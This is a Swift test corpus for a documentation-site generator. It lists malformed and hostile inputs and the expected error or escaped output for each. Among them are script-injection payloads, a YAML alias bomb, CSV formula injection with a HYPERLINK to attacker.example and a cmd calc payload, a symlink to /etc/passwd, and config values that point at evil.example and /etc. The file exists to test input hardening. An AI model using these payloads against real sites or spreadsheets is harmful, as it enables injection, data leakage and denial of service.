import A11yDocsTestSupport
import Foundation

/// The bad-input corpus: encodings, structure, size, nesting, aliases, injection and file-system
/// oddities. Every case is built and checked by `BadInputTests`; none may crash or hang.
enum BadInputCorpus {
    typealias Case = BadInputCase

    static var all: [Case] {
        encodings + structure + frontMatterWords + scriptFiles + sizes + nesting + aliases + injection + fileSystem
            + siteFolders
    }

    static let encodings: [Case] = [
        Case(
            "byte-order mark",
            data: ["native/bom.md": Data([0xEF, 0xBB, 0xBF]) + Data(Case.entry(title: "Bom slider").utf8)], exit: 0,
            published: ["native/bom/index.html": ["Bom slider", "A note."]]),
        Case(
            "windows line endings",
            files: ["native/crlf.md": Case.entry(title: "Crlf slider").replacingOccurrences(of: "\n", with: "\r\n")],
            exit: 0, published: ["native/crlf/index.html": ["Crlf slider", "A note."]]),
        Case(
            "classic mac line endings",
            files: ["native/cr.md": Case.entry(title: "Cr slider").replacingOccurrences(of: "\n", with: "\r")],
            exit: 0, messages: ["Content/native/cr.md:1:1: warning: lines end in CR alone (classic Mac OS)"],
            published: ["native/cr/index.html": ["Cr slider", "A note."]]),
        Case(
            "latin-1 text",
            data: [
                "native/latin.md": Data("---\ntitle: Caf".utf8) + Data([0xE9]) + Data("\ncategories: c\n---\n".utf8)
            ], exit: 1,
            messages: ["Content/native/latin.md:2:11: error: the file is not valid UTF-8 — save it with UTF-8 encoding"]
        ),
        Case(
            "NUL in the body", data: ["native/nul.md": Data(Case.entry(body: "Before\u{0}after\n").utf8)], exit: 1,
            messages: ["Content/native/nul.md:5:7: error: a NUL character (byte 0) here"]),
        Case(
            "control character in a value", files: ["native/control.md": Case.entry(title: "Bell\u{7}slider")], exit: 1,
            messages: ["Content/native/control.md:2:"]),
    ]

    static let frontMatterWords: [Case] = [
        // A near miss of a test group is read as that group: the page keeps its table.
        Case(
            "misspelt test groups",
            files: [
                "native/typos.md": Case.entry(
                    title: "Typo slider",
                    frontMatter: """
                        keybaord:
                          tab: Focus lands on the thumb
                        screenreder:
                          name: Volume
                          role: Adjustable
                          group: n/a
                          state: Fifty percent
                        setings:
                          text resize: The value label wraps
                        mobil:
                          swipe up: The value goes up one step

                        """)
            ], exit: 0,
            messages: [
                "Content/native/typos.md:4:1: warning: 'keybaord' is read as 'keyboard' — write 'keyboard'",
                "Content/native/typos.md:6:1: warning: 'screenreder' is read as 'screenreader'",
                "Content/native/typos.md:11:1: warning: 'setings' is read as 'settings'",
                "Content/native/typos.md:13:1: warning: 'mobil' is read as 'mobile'",
            ],
            published: [
                "native/typos/index.html": [
                    "Focus lands on the thumb", "Fifty percent", "The value label wraps", "The value goes up one step",
                ]
            ]),
        // Keys with no place in the model are shown, not dropped.
        Case(
            "keys a11ydocs has no place for",
            files: [
                "native/extra.md": Case.entry(
                    title: "Extra slider",
                    frontMatter: """
                        tags: [sliders, range]
                        owner: Design systems team
                        reviewed:
                          by: Sam
                          on: "2026-03-01"
                        notes: |
                          First line <b>kept</b>
                          *second* line

                        """)
            ], exit: 0,
            messages: ["Content/native/extra.md:5:1: warning: unknown key 'owner'"],
            published: [
                "native/extra/index.html": [
                    "Other details", "sliders, range", "Design systems team", "by: Sam; on: 2026-03-01",
                    "First line &lt;b&gt;kept&lt;/b&gt;", "*second* line",
                ],
                "native/extra.md": ["Design systems team"],
            ]),
    ]

    static let scriptFiles: [Case] = [
        Case(
            "files a browser runs script in",
            files: [
                "native/ok.md": Case.entry(), "native/demo.html": "<script>alert(1)</script>",
                "native/icon.SVG": "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(2)</script></svg>",
                "native/photo.png": "not really a picture",
            ],
            exit: 0,
            messages: [
                "Content/native/demo.html:1:1: warning: published as it is, and a browser runs any script in this file",
                "Content/native/icon.SVG:1:1: warning: published as it is",
            ],
            published: ["native/demo.html": ["<script>"]])
    ]

    static let structure: [Case] = [
        Case(
            "empty file", files: ["native/empty.md": ""], exit: 1,
            messages: ["Content/native/empty.md:1:1: error: the file is empty"]),
        Case(
            "no front matter", files: ["native/plain.md": "# Slider\n\nJust text.\n"], exit: 1,
            messages: ["Content/native/plain.md:1:1: error: no front matter"]),
        Case(
            "front matter never closed", files: ["native/open.md": "---\ntitle: Slider\ncategories: c\n\nBody.\n"],
            exit: 1,
            messages: ["Content/native/open.md:1:1: error: front matter is not closed"]),
        Case(
            "duplicate keys", files: ["native/dup.md": "---\ntitle: A\ncategories: c\ntitle: B\n---\n"], exit: 1,
            messages: ["Content/native/dup.md:4:1: error: the key 'title' appears twice (first on line 2) — keep one"]),
        Case(
            "wrong types", files: ["native/types.md": Case.entry(frontMatter: "order: soon\nkeyboard: [tab]\n")],
            exit: 1,
            messages: [
                "Content/native/types.md:4:8: error: 'order' must be a whole number",
                "Content/native/types.md:5:11: error: 'keyboard' must be a map",
            ]),
        Case(
            "unclosed quote swallowing the next line",
            files: ["native/quote.md": "---\ntitle: \"Slider\ncategories: controls\ndescription: \"Moves\"\n---\n"],
            exit: 1, messages: ["Content/native/quote.md:2:8: error: this quote is not closed on its line"]),
        Case(
            "tab indentation", files: ["native/tab.md": Case.entry(frontMatter: "keyboard:\n\ttab: Focus moves\n")],
            exit: 1,
            messages: ["Content/native/tab.md:5:1: error: a tab character here — YAML indents with spaces only"]),
        Case(
            "front matter as older libraries write it",
            files: [
                "native/strike.md": """
                ---
                layout: entry
                permalink: /native/strike/
                title: Strikethrough
                categories: text
                keyboard:
                  N/A
                screenreader:
                  name: Reads the words
                state: |
                  iOS: says nothing
                  Android: says nothing either
                wcag:
                  - name: Perceivable
                    list:
                      - criteria: Is not the only way a change is shown
                ---
                ## iOS
                - A note.
                """
            ], exit: 0,
            messages: [
                "Content/native/strike.md:7:3: warning: 'keyboard' is text ('N/A'), not a map of steps",
                "Content/native/strike.md:10:1: warning: 'state' is at the top level — indent it under 'screenreader' "
                    + "(line 8)",
            ],
            published: [
                "native/strike/index.html": [
                    "N/A", "iOS: says nothing<br>", "Android: says nothing either",
                    "Is not the only way a change is shown",
                ],
                "criteria/native/strike.txt": [
                    "   N/A\n", "   - State: iOS: says nothing\n     Android: says nothing either\n",
                ],
            ]),
        Case(
            "front matter that is a list", files: ["native/list.md": "---\n- title\n- categories\n---\n"], exit: 1,
            messages: ["Content/native/list.md:2:1: error: front matter must be a set of 'key: value' lines"]),
    ]

    static var sizes: [Case] {
        let paragraph =
            String(repeating: "The slider moves by one step per swipe and announces the new value. ", count: 15)
            + "\n\n"
        let threeMegabytes = String(repeating: paragraph, count: 3 * 1024 * 1024 / paragraph.utf8.count + 1)
        let fiveMegabytes = String(repeating: paragraph, count: 5 * 1024 * 1024 / paragraph.utf8.count + 1)
        // Five tables of 250 × 200 cells each, all but one cell per row filled in: each alone is
        // under the limit, together they are over it.
        let filledTable =
            String(repeating: "|a", count: 250) + "|\n" + String(repeating: "|-", count: 250) + "|\n"
            + String(repeating: "x\n", count: 200) + "\n"
        let fiveFilledTables = (1...5).map { "Table \($0).\n\n" + filledTable }.joined()
        let longLine = String(repeating: "word ", count: 1024 * 1024 / 5)
        let longTitle = String(repeating: "Slider ", count: 100_000 / 7) + "end"
        // Repetition that once cost quadratic time: the same heading (ids) and many links in one paragraph.
        let repeatedHeadings = String(repeating: "### Focus order\n\nTODO\n\n", count: 10_000)
        let linkParagraph = (0..<10_000).map { "see [step \($0)](gone-\($0).md)" }.joined(separator: "\n") + "\n"
        // Pipe tables: very wide, very long, and mixed with raw HTML inside and between them.
        let wideTable =
            "|" + (1...5_000).map { " c\($0) |" }.joined() + "\n|" + String(repeating: "---|", count: 5_000) + "\n|"
            + (1...5_000).map { " v\($0) |" }.joined() + "\n"
        let longTable = "| Key | Result |\n| --- | --- |\n" + (1...50_000).map { "| k\($0) | r\($0) |\n" }.joined()
        let filledIn =
            String(repeating: "|a", count: 2_000) + "|\n" + String(repeating: "|-", count: 2_000) + "|\n"
            + String(repeating: "x\n", count: 20_000)
        let htmlTable =
            "| <b>Key</b> | <div> |\n| --- | --- |\n| <script>alert(1)</script> | `<i>` |\n<div>\n\n| a | b "
            + "|\n|---|---|\n| </div> | x\n"
        return [
            Case(
                "3 MB entry",
                files: [
                    "native/huge.md": Case.entry(
                        body: "## iOS\n\n" + threeMegabytes + "Last words of the huge entry.\n")
                ], exit: 0,
                published: [
                    "native/huge/index.html": ["Last words of the huge entry."],
                    "native/huge.md": ["Last words of the huge entry."],
                ]),
            Case(
                "5 MB entry", files: ["native/huger.md": Case.entry(body: "## iOS\n\n" + fiveMegabytes)], exit: 1,
                messages: [
                    "Content/native/huger.md:1:1: error: the file holds 5 MiB, more than an entry may (4 MiB) — split "
                        + "it into several entries"
                ]),
            Case(
                "1 MB line", files: ["native/line.md": Case.entry(body: longLine + "closing word\n")], exit: 0,
                published: ["native/line/index.html": ["closing word"]]),
            Case(
                "10,000 identical headings",
                files: ["native/headings.md": Case.entry(body: "## iOS\n\n" + repeatedHeadings + "Final note.\n")],
                exit: 0,
                published: ["native/headings/index.html": ["id=\"ios-focus-order-10000\"", "Final note."]]),
            Case(
                "10,000 broken links in one paragraph", files: ["native/links.md": Case.entry(body: linkParagraph)],
                exit: 0,
                checkFindings: [
                    "Content/native/links.md:5:14: error: link to 'gone-0.md' points at no entry or file",
                    "Content/native/links.md:10004:17: error: link to 'gone-9999.md' points at no entry or file",
                ]),
            Case(
                "5,000-column table",
                files: ["native/wide.md": Case.entry(body: "## iOS\n\n" + wideTable + "\nAfter the wide table.\n")],
                exit: 0,
                published: [
                    "native/wide/index.html": [
                        "<th scope=\"col\">c5000</th>", "<td>v5000</td>", "After the wide table.",
                    ],
                    "native/wide.md": ["| c5000 |", "After the wide table."],
                ]),
            Case(
                "50,000-row table",
                files: ["native/long.md": Case.entry(body: "## iOS\n\n" + longTable + "\nAfter the long table.\n")],
                exit: 0,
                published: [
                    "native/long/index.html": ["<tr><td>k50000</td><td>r50000</td></tr>", "After the long table."]
                ]),
            Case(
                "a 48 KB table that would fill in 40 million empty cells",
                files: ["native/filled.md": Case.entry(body: "## iOS\n\n" + filledIn)], exit: 1,
                messages: [
                    "Content/native/filled.md:7:1: error: with this table, the entry's tables leave out more than "
                        + "200000 cells"
                ]),
            Case(
                "five tables that fill in 250,000 empty cells together",
                files: ["native/tables.md": Case.entry(body: "## iOS\n\n" + fiveFilledTables)], exit: 1,
                messages: [
                    "Content/native/tables.md:",
                    "error: with this table, the entry's tables leave out more than 200000 cells",
                ]),
            Case(
                "tables mixed with raw HTML",
                files: ["native/mixed.md": Case.entry(body: "## iOS\n\n" + htmlTable + "\nAfter the mixed table.\n")],
                exit: 0,
                published: [
                    "native/mixed/index.html": [
                        "<th scope=\"col\"><b>Key</b></th>", "<td>&lt;script&gt;alert(1)&lt;/script&gt;</td>",
                        "<code>&lt;i&gt;</code>", "After the mixed table.",
                    ],
                    "native/mixed.md": ["\\<script\\>", "After the mixed table."],
                ]),
            Case(
                "100,000-character title", files: ["native/title.md": Case.entry(title: longTitle)], exit: 0,
                published: [
                    "native/title/index.html": ["Slider end"], "criteria/native/title.feature": ["Slider end"],
                ]),
        ]
    }

    static var nesting: [Case] {
        [
            Case(
                "10,000 nested lists",
                files: ["native/lists.md": Case.entry(body: String(repeating: "- ", count: 10_000) + "deep\n")],
                exit: 1,
                messages: ["Content/native/lists.md:5:", "nest more than 64 levels deep here"]),
            Case(
                "10,000 nested block quotes",
                files: ["native/quotes.md": Case.entry(body: String(repeating: ">", count: 10_000) + " deep\n")],
                exit: 1,
                messages: ["Content/native/quotes.md:5:", "nest more than 64 levels deep here"]),
            Case(
                "10,000 nested emphasis",
                files: [
                    "native/emphasis.md": Case.entry(
                        body: String(repeating: "*a ", count: 10_000) + "x" + String(repeating: " a*", count: 10_000)
                            + "\n")
                ],
                exit: 1, messages: ["Content/native/emphasis.md:5:", "nest more than 64 levels deep here"]),
            Case(
                "10,000 nested links",
                files: [
                    "native/links.md": Case.entry(
                        body: String(repeating: "[", count: 10_000) + "x"
                            + String(repeating: "](https://example.com/)", count: 10_000) + "\n")
                ],
                exit: 0, published: ["native/links/index.html": ["[[["]]),
            Case(
                "64 nested lists still build",
                files: [
                    "native/sixty-four.md": Case.entry(
                        body: (0..<63).map { String(repeating: "  ", count: $0) + "- level \($0)\n" }.joined())
                ],
                exit: 0, published: ["native/sixty-four/index.html": ["level 62"]]),
            Case(
                "deep YAML flow nesting",
                files: [
                    "native/flow.md": Case.entry(
                        frontMatter: "wcag: " + String(repeating: "[", count: 5_000)
                            + String(repeating: "]", count: 5_000) + "\n")
                ],
                exit: 1, messages: ["Content/native/flow.md:4:", "front matter nests more than 32 levels deep"]),
            Case(
                "deep YAML block nesting",
                files: [
                    "native/block.md": Case.entry(
                        frontMatter: "keyboard:\n"
                            + (1...40).map { String(repeating: "  ", count: $0) + "k\($0):\n" }.joined()
                            + String(repeating: "  ", count: 41) + "end\n")
                ],
                exit: 1, messages: ["front matter nests more than 32 levels deep"]),
        ]
    }

    static var aliases: [Case] {
        let laughs = (1...9).map { level in
            "l\(level): &l\(level) [" + Array(repeating: "*l\(level - 1)", count: 9).joined(separator: ", ") + "]\n"
        }.joined()
        let bomb = "l0: &l0 \"lol\"\n" + laughs
        return [
            Case(
                "alias used as a map key",
                files: [
                    "native/key.md": Case.entry(
                        frontMatter: bomb.replacingOccurrences(of: "l", with: "x") + "keyboard:\n  ? *x9\n  : boom\n")
                ],
                exit: 1,
                messages: [
                    "Content/native/key.md:",
                    "front matter stands for more than 20000 values once its "
                        + "aliases",
                ]),
            Case(
                "aliases expanded through wcag groups",
                files: [
                    "native/groups.md": Case.entry(
                        frontMatter: "anchors:\n"
                            + bomb.split(separator: "\n").map { "  " + $0 }.joined(separator: "\n")
                            + "\nwcag:\n  - name: Perceivable\n    list: *l9\n")
                ],
                exit: 1,
                messages: [
                    "Content/native/groups.md:", "front matter stands for more than 20000 values once its aliases",
                ]),
            Case(
                "a few aliases are fine",
                files: [
                    "native/few.md": Case.entry(
                        frontMatter: "keyboard:\n  tab: &moves Focus moves to the slider\n  shift+tab: *moves\n")
                ],
                exit: 0, published: ["native/few/index.html": ["Shift+tab", "Focus moves to the slider"]]),
            Case(
                "self-referencing alias",
                files: ["native/self.md": Case.entry(frontMatter: "keyboard: &k\n  tab: *k\n")], exit: 1,
                messages: ["Content/native/self.md:"]),
        ]
    }

    static var injection: [Case] {
        let fixture = Fixtures.repository.appendingPathComponent("Tests/a11ydocsTests/Fixtures/Hostile")
        let hostile = try! String(contentsOf: fixture.appendingPathComponent("native/hostile.md"), encoding: .utf8)
        let authored = try! String(
            contentsOf: fixture.appendingPathComponent("web/hostile-authored.md"), encoding: .utf8)
        let formula = try! String(contentsOf: fixture.appendingPathComponent("native/formula.md"), encoding: .utf8)
        let smuggling = try! String(
            contentsOf: fixture.appendingPathComponent("native/html-smuggling.md"), encoding: .utf8)
        let openTags = String(repeating: "<a ", count: 350_000)
        return [
            Case(
                "script in every field and format",
                files: ["native/hostile.md": hostile, "web/hostile-authored.md": authored], exit: 0,
                published: [
                    "web/hostile-authored/index.html": [
                        "Don't</span> HTML", "sandbox=\"\"", "srcdoc=\"&lt;button onclick=&quot;alert(22)&quot;",
                        "The last web note survives.",
                    ],
                    "criteria/web/hostile-authored.feature": [
                        "Scenario: Mobile screen-reader gestures",
                        "When the user swipes Scenario: smuggled through a step",
                    ],
                    "native/hostile/index.html": [
                        "&lt;script&gt;alert(&quot;title&quot;)&lt;/script&gt;", "&lt;img src=x onerror=alert(1)&gt;",
                        "The last note survives.",
                    ],
                    "native/hostile.md": ["\\<script\\>", "The last note survives."],
                    "criteria/native/hostile.feature": ["Scenario: Keyboard"],
                ]),
            // Raw HTML on the allow-list is kept, written again: its smuggled attributes are gone.
            Case(
                "allowed HTML with smuggled attributes", files: ["native/html-smuggling.md": smuggling], exit: 0,
                messages: [
                    "Content/native/html-smuggling.md:36:6: warning: '<script>' is shown as text",
                    "Content/native/html-smuggling.md:38:14: warning: '<table>' inside a paragraph is shown as text",
                ],
                published: [
                    "native/html-smuggling/index.html": [
                        "<kbd>Ctrl</kbd>+<kbd>C</kbd>", "<a>a tab inside the scheme</a>",
                        "<img src=\"../x\" alt=\"an image with a handler\">", "<details open>\n<summary>",
                        "&lt;svg&gt;&lt;script&gt;alert(117)&lt;/script&gt;&lt;/svg&gt;",
                        "An unclosed <strong>strong</strong></li>", "The last smuggling note survives.",
                    ],
                    "native/html-smuggling.md": ["The last smuggling note survives."],
                ]),
            Case(
                "HTML mixtures: a megabyte of open tags, 100,000 unclosed elements, tags across blocks",
                files: [
                    "native/mixtures.md": Case.entry(
                        title: "Mixtures",
                        body: "## iOS\n\n<details>\n" + openTags + "\n\n"
                            + String(repeating: "<strong><em>", count: 50_000) + "deep\n\n"
                            + String(repeating: "</em></strong>", count: 50_000)
                            + "\n\n<table><tr><td>\n\n- <b>cell\n\n</td></tr></table>\n\n- The last mixture note "
                            + "survives.\n"
                    )
                ],
                exit: 0,
                published: [
                    "native/mixtures/index.html": [
                        "&lt;a &lt;a ", "deep</strong></em></strong>", "The last mixture note survives.",
                    ]
                ]),
            // Every cell a spreadsheet would run is neutralised (`OutputHazards` reads each CSV).
            Case(
                "formulas in every field the CSVs carry", files: ["native/formula.md": formula], exit: 0,
                published: [
                    "criteria/test-cases.csv": [
                        "\"'=HYPERLINK(\"\"https://attacker.example/?\"\"&A1", "\"'@SUM(1+1)*cmd|' /C calc'!A0\"",
                        "\"''=already quoted\"",
                        "\"'＠fullwidth result\"",
                    ],
                    "criteria/test-cases-xray.csv": ["\"'-moves focus\"", "\"'+button\""],
                    "criteria/test-cases-testrail.csv": ["\"'@text grows\""],
                    "native/formula/index.html": ["=Formula-looking note"],
                ]),
        ]
    }

    static var fileSystem: [Case] {
        [
            Case(
                "symlink out of the content folder", files: ["native/ok.md": Case.entry()],
                symlinks: ["native/passwd.png": "/etc/passwd"], exit: 0,
                messages: [
                    "Content/native/passwd.png:1:1: warning: this link leads outside the content folder (to "
                        + "'/etc/passwd') and is not published"
                ],
                unpublished: ["native/passwd.png"]),
            Case(
                "symlink cycle", files: ["native/ok.md": Case.entry()], symlinks: ["native/again": ".", "web": "."],
                exit: 0,
                messages: [
                    "Content/native/again:1:1: warning: this link leads back into a folder that holds it and is not "
                        + "followed",
                    "Content/web:1:1: warning: this link leads back into a folder that holds it and is not followed",
                ]),
            Case(
                "dangling symlink", files: ["native/ok.md": Case.entry()], symlinks: ["native/gone.png": "missing.png"],
                exit: 0,
                messages: ["Content/native/gone.png:1:1: warning: this link points at nothing"]),
            Case(
                "file over a generated page",
                files: ["native/ok.md": Case.entry(), "native/ok/index.html": "<p>mine</p>"], exit: 1,
                messages: [
                    "Content/native/ok/index.html:1:1: error: this file would overwrite the generated "
                        + "'native/ok/index.html'"
                ]),
            Case(
                "file where a page folder goes", files: ["native/ok.md": Case.entry(), "native/ok": "plain file"],
                exit: 1,
                messages: ["Content/native/ok:1:1: error: this file would overwrite the generated 'native/ok/'"]),
            Case(
                "hidden Markdown files are named, not dropped",
                files: [
                    "native/ok.md": Case.entry(), "native/..md": Case.entry(title: "Dots"),
                    "web/.button.md": Case.entry(title: "Hidden"),
                ],
                exit: 0,
                messages: [
                    "Content/native/..md:1:1: warning: this Markdown file's name starts with '.', which hides it, and "
                        + "it is not published",
                    "Content/web/.button.md:1:1: warning: this Markdown file's name starts with '.'",
                ],
                unpublished: ["native/..md", "web/.button.md"]),
            Case(
                "editor leftovers",
                files: [
                    "native/ok.md": Case.entry(), "native/ok.md~": "backup", "native/#ok.md#": "autosave",
                    "native/4913": "", "native/.ok.md.swp": "swap",
                    "native/sedJMRYe8": "sed -i at work",
                ],
                exit: 0, unpublished: ["native/ok.md~", "native/#ok.md#", "native/4913", "native/sedJMRYe8"]),
        ]
    }

    /// The site's own folders and settings, as a hostile repository sets them.
    static var siteFolders: [Case] {
        var cases = [
            Case(
                "base URL of another site", files: ["native/ok.md": Case.entry()], exit: 1,
                messages: ["a11ydocs.yml:1:11: error: 'base_url' must be '/', a path such as '/a11y/' (not '//…')"]),
            Case(
                "an output folder that is a git repository", files: ["native/ok.md": Case.entry()], exit: 1,
                messages: ["'Output' is a git repository (it holds '.git'), and the build replaces the whole folder"]),
            Case(
                "a marker that is a folder", files: ["native/ok.md": Case.entry()], exit: 1,
                messages: ["'Output' holds 'notes.txt', which a11ydocs did not write"]),
            Case(
                "an output folder above the repository", files: ["native/ok.md": Case.entry()], exit: 1,
                messages: ["a11ydocs.yml:1:9: error: 'output' leads outside the library's folder"]),
            Case(
                "a static folder elsewhere on the machine", files: ["native/ok.md": Case.entry()], exit: 1,
                messages: [
                    "a11ydocs.yml:2:9: error: 'static' leads outside the library's folder",
                    "to '/etc', and a folder named in a11ydocs.yml must be inside it",
                ]),
            Case(
                "templates and content above the library", files: ["native/ok.md": Case.entry()], exit: 1,
                messages: [
                    "a11ydocs.yml:1:12: error: 'templates' leads outside the library's folder",
                    "pass --templates <path> on the command line instead",
                    "a11ydocs.yml:2:10: error: 'content' leads outside the library's folder",
                ]),
        ]
        cases[0].config = "base_url: //evil.example/x/\n"
        cases[1].outputFiles = [
            ".git/HEAD": "ref: refs/heads/gh-pages\n", "CNAME": "patterns.example.org\n",
            "index.html": "<p>published</p>",
        ]
        cases[2].outputFiles = [".a11ydocs/keep": "", "notes.txt": "mine"]
        cases[3].config = "output: ../\n"
        cases[4].config = "title: Patterns\nstatic: /etc\n"
        cases[5].config = "templates: ../..\ncontent: ../Content\n"
        for index in 1...3 { cases[index].commands = ["build"] }
        return cases
    }
}
